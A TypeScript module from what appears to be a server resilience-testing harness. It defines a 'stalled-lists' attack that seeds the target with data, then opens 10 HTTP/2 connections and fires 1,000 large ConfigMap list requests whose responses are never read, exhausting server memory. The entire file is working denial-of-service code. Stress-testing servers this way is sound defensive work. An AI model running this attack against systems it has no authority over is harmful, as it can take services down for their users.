import { once } from 'node:events';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack } from './attack.ts';
import { CONFIG_MAPS, fill } from './objects.ts';
import { bearer, session } from './wire.ts';

const CONNECTIONS = 10;
const LISTS_EACH = 100;

export const attack: Attack = {
  name: 'stalled-lists',
  what: '1,000 lists of 20 MB over 10 connections that are not read',
  async prepare(target) {
    const writer = session(target);
    await fill(writer, target, { count: 400, bytes: 50_000 });
    writer.destroy();
  },
  async run(target, signal) {
    const sessions = Array.from({ length: CONNECTIONS }, () => session(target, 1));
    let answered = 0;
    let cut = 0;
    for (const one of sessions) {
      await once(one, 'connect');
      for (let index = 0; index < LISTS_EACH && !signal.aborted; index++) {
        const stream = one.request({ ...bearer(target), ':path': CONFIG_MAPS });
        stream.on('response', () => (answered += 1));
        stream.on('error', () => undefined).on('close', () => (cut += 1));
      }
    }
    await sleep(10_000, undefined, { signal }).catch(() => undefined);
    const line = `${answered} of ${CONNECTIONS * LISTS_EACH} lists begun, ${cut} cut`;
    for (const one of sessions) one.destroy();
    return line;
  },
};
